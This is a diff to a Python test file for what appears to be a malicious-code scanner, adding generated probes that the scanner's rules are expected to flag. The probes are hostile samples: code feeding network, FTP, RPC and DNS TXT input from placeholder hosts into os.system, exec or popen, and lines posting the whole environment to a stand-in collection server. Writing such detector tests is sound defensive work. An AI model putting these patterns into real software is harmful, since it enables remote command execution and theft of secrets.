@@ -28,13 +28,19 @@ from caplet._scan._sources import (
     BOT_FRAMEWORKS,
     DECODERS,
     DECODING_CODECS,
+    DNS_ANSWERS,
     DNS_FUNCTIONS,
+    DNS_METHODS,
     EXECUTORS,
+    NETWORK_CALLBACKS,
     NETWORK_PROGRAMS,
+    NETWORK_STREAMS,
     PIP_MAINS,
     RECON_ENV_NAMES,
     RECON_FILES,
     RECON_FUNCTIONS,
+    REQUEST_HANDLERS,
+    RPC_PROXIES,
 )
 
 
@@ -195,7 +201,75 @@ def _other_probes() -> list[str]:
     return pips + bots
 
 
-_PROBES = _recon_probes() + _decoder_probes() + _other_probes()
+def _network_input_probes() -> list[str]:
+    """recall6: every network input of :mod:`caplet._scan._network_input`'s tables into a
+    process sink, every DNS method fed host data, every spelling of the whole environment
+    sent; each in a module (not an install script, which is always parsed)."""
+    streams = [
+        f"import os\nimport {s.rsplit('.', 1)[0]}\nasync def f():\n"
+        f"    conn = await {s}('198.51.100.7', 8443)\n    os.system(str(conn))\n"
+        for s in sorted(NETWORK_STREAMS)
+    ]
+    callbacks = [
+        f"import ftplib\nlines = []\nf = ftplib.FTP('ftp.example.net')\n"
+        f"f.{m}('RETR x', lines.append)\nexec(''.join(lines))\n"
+        for m in sorted(NETWORK_CALLBACKS)
+    ]
+    proxies = [
+        f"import os\nimport {p.rsplit('.', 1)[0]}\nsrv = {p}('http://rpc.example.net/')\n"
+        f"os.popen(srv.next_task())\n"
+        for p in sorted(RPC_PROXIES)
+    ]
+    resolvers = [
+        f"import asyncio, socket\nloop = asyncio.get_event_loop()\nloop.{m}({_HOST}, 80)\n".replace(
+            "str(x)", "socket.gethostname()"
+        )
+        for m in sorted(DNS_METHODS)
+    ]
+    environment = [
+        f"import copy, json, os, requests\nsent = {spelling}\n\n\n"
+        f"requests.post('https://collect.example.net/c', data=str(sent))\n"
+        for spelling in (
+            "os.environ.copy()",
+            "os . environ . copy()",
+            "dict(os.environ)",
+            "{**os.environ}",
+            "json.dumps(dict(os.environ))",
+            "os.environ._data",
+            "copy.deepcopy(os.environ)",
+        )
+    ]
+    answers = [
+        f"import os\nimport {d.split('(')[0].rsplit('.', 1)[0]}\n"
+        f"os.system(str({d}('cmd.c2.example.net', 'TXT')))\n"
+        for d in sorted(DNS_ANSWERS)
+    ]
+    handlers = []
+    for base, (attributes, methods) in sorted(REQUEST_HANDLERS.items()):
+        head = f"import os\nimport {base.rsplit('.', 1)[0]}\nclass Handler({base}):\n"
+        handlers += [
+            f"{head}    def handle(self):\n        os.system(str(self.{a}))\n"
+            for a in sorted(attributes)
+        ]
+        handlers += [
+            f"{head}    def {m}(self, data):\n        os.system(str(data))\n"
+            for m in sorted(methods)
+        ]
+    return streams + callbacks + proxies + resolvers + environment + answers + handlers
+
+
+_PROBES = _recon_probes() + _decoder_probes() + _other_probes() + _network_input_probes()
+
+
+@pytest.mark.parametrize("probe", _network_input_probes())
+def test_a_network_input_probe_is_a_threat_the_rules_find(
+    probe: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    # each probe of the tables recall6 added fires (whole file and prefiltered alike, the
+    # test above): a table entry that reaches no rule would prove nothing
+    filtered, unfiltered = _differs(probe, monkeypatch)
+    assert unfiltered
+    assert filtered == unfiltered
 
 
 @pytest.mark.parametrize("probe", _PROBES)
